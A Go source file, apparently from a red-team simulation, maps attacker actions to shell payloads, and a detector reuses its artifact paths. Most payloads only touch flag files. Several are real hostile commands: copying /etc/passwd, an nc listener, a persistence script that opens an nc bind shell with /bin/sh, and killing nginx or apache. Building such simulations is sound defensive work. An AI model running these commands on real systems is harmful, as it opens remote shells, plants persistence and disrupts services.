package redteam

import (
	"fmt"
	"math/rand"
)

// Artifacts は Red Agent がホストに残す痕跡のパス。Detector と Executor もこれを参照する。
const (
	FlagFile        = "/tmp/pwned"
	RootFlagFile    = "/tmp/pwned_root"
	ExfilGlob       = "/tmp/exfil_*"
	BackdoorLogGlob = "/tmp/backdoor_*.log"
	PersistScript   = "/etc/periodic/15min/backdoor.sh"
)

const (
	backdoorPortMin = 4440
	backdoorPortMax = 4450
)

// payloadFor は行動に対応するシェルスクリプトを返す。
func payloadFor(act Action, rng *rand.Rand) string {
	switch act {
	case ActionScan:
		return "ss -tuln 2>/dev/null || netstat -tuln 2>/dev/null || true"
	case ActionExploit:
		return "touch " + FlagFile
	case ActionEscalate:
		return "touch " + RootFlagFile
	case ActionImpact:
		switch rng.Intn(3) {
		case 0:
			return "cp /etc/passwd /tmp/exfil_passwd"
		case 1:
			port := backdoorPortMin + rng.Intn(backdoorPortMax-backdoorPortMin+1)
			return fmt.Sprintf("nc -l -p %d > /tmp/backdoor_%d.log 2>&1 & echo $!", port, port)
		default:
			return "mkdir -p /etc/periodic/15min && " +
				"printf '#!/bin/sh\\nnc -l -p 4444 -e /bin/sh\\n' > " + PersistScript +
				" && chmod +x " + PersistScript
		}
	case ActionDegrade:
		return "pkill nginx || pkill apache2 || true"
	default:
		return "true"
	}
}
